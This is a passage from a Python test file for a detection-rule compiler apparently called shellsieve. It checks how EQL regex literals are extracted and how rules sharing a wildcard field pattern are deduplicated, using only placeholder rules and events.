    assert _safe_regex(r"(?s)\A(?:.*ab-cd.*)\z") == (rb"\x61\x62\x2d\x63\x64", 5)  # anchors and .* left out
    for refused in [r"\d\d:\d\d",      # Python's \d matches non-ASCII digits
                    r"(?i)ab-cd",         # and ignore-case `k` matches the Kelvin sign
                    r'ab"cd', r"ab\\cd",  # JSON escapes these
                    r"ab[^-]cd", r"ab.cd",  # could match either
                    r"ab"]:               # shorter than MIN_REGEX_WIDTH
        assert _safe_regex(refused) is None, refused
    # EQL's stored form ends in \z, which Python's parser spells \Z: its literals are found
    assert [x.text for x in _regex_literal(r"(?s)\A(?:.*foo\.bar.*)\z", False) or []] == [b"foo.bar"]


def test_rules_sharing_a_field_pattern_share_its_id() -> None:
    """`?*` (any non-empty value) is in hundreds of Elastic rules: one pattern, reported once per scan."""
    from shellsieve.compile.ruleset import compile_rules
    from shellsieve.diagnostics import Location
    from shellsieve.model.expr import AllOf, Op, Predicate
    from shellsieve.model.rule import Rule

    def rule(i: int) -> Rule:
        query = AllOf((Predicate("process.name", Op.EQ, (f"tool{i}",), True),
                       Predicate("file.extension", Op.WILDCARD, ("?*",), False)))
        return Rule(id=f"r{i}", name=f"r{i}", ruleset="eql", location=Location("t"), query=query)

    rs, _ = compile_rules([rule(i) for i in range(50)])
    assert rs.scan_field("so") == rs.scan_field("x") and len(rs.scan_field("so")) == 1
    assert rs.scan_field("") == frozenset()
    event = {"process": {"name": "tool7"}, "file": {"extension": "so"}}
    docs = run_events(rs, [msgspec.json.encode(event)])
    assert rule_ids(docs[0]) == ["r7"]
